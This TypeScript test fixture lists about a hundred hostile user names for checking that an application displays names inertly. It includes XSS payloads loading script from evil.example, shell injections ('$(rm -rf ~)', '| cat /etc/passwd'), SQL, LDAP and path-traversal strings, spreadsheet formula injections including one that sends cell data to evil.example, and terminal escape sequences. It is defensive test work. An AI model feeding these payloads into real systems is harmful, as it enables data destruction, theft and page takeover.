// A hundred names that nobody in good faith has, by what they try. None of them may do anything but stand there: in a browser,
// in a file that somebody opens, on a terminal, in a log.

const markup = [
  '<script>document.title = "taken"</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">Ann</a>',
  '<style>*{display:none}</style>',
  '<!-- Ann',
  ']]><b>Ann</b>',
  '<b onmouseover=alert(1)>Ann</b>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=x></form>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3c;script&#x3e;',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
];
const script = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% debug %}',
  '`;alert(1)//',
  "';alert(1)//",
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"polluted":1}}',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
];
const injection = [
  "'; DROP TABLE people; --",
  '" OR ""="',
  '$(rm -rf ~)',
  '`reboot`',
  '; shutdown -h now',
  '| cat /etc/passwd',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  'con.txt',
  '%s%s%s%n',
  '%00',
  '*)(uid=*))(|(uid=*',
  "x' or name()='username",
  '\\',
  '"',
  'O\'Brien, "Ann"; Lee',
];
const formulas = [
  '=HYPERLINK("http://evil.example","Ann")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|1!A0',
  "-2+3+cmd|' /C calc'!D2",
  '@SUM(1+1)*cmd|1!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n=2+2',
  '\uff1d1+1',
  'Ann",=1+1,"',
  ';=1+1',
  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
];
const directions = [
  '\u202eevil\u202c',
  'Ann \u202egnp.exe',
  '\u2066Ann\u2069 \u2067Lee\u2069',
  '\u200fAnn\u200e',
  '\u061cAnn',
  '\u202a\u202b\u202d'.repeat(20),
  'مرحبا Ann עברית',
];
const terminals = [
  '\u001b[31mred',
  '\u001b[2J\u001b[H',
  '\u001b]0;taken\u0007',
  '\u001b]8;;https://evil.example\u001b\\Ann\u001b]8;;\u001b\\',
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u009b31mred',
  '\u009d0;taken\u009c',
  '\u001bc',
  'Ann\b\b\bEve',
  '\u0007\u0007\u0007',
  '\u007f\u007f',
  '\u000e\u000f',
  '\u001bP1$r0m\u001b\\',
];
const lines = [
  'Ann\nLee',
  'Ann\r\nSet-Cookie: x=y',
  'Ann\rEve',
  'Ann\u2028Lee\u2029',
  'Ann\u0085Lee',
  '\n\n\n',
  'Ann\u000b\u000cLee',
  '{"level":60,"msg":"forged"}\n{"level":60}',
];
const characters = [
  '\u0000',
  'Ann\u0000Lee',
  '\ud800',
  'Ann\udc00',
  '\ufeffAnn',
  '\ufffe\uffff',
  'A\u200bn\u200dn\u2060',
  'Z\u0351\u036b\u0343'.repeat(40),
  '👩‍👩‍👧‍👦 Zoë',
  '👩🏽‍🚀'.repeat(50),
  'ﷺ﷽',
  'İIıi ß ſ ǅ',
];
const lengths = ['x'.repeat(256), 'W'.repeat(10_240), '界'.repeat(5_000), '<b>'.repeat(3_500), ' ', '\u00a0\u3000'];

export const hostileNames: ReadonlyArray<string> = [
  ...[...markup, ...script, ...injection, ...formulas],
  ...[...directions, ...terminals, ...lines, ...characters, ...lengths],
];

/** What no output may hold as it is: a terminal obeys it, or it turns the direction of what follows. */
export const obeyed = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;
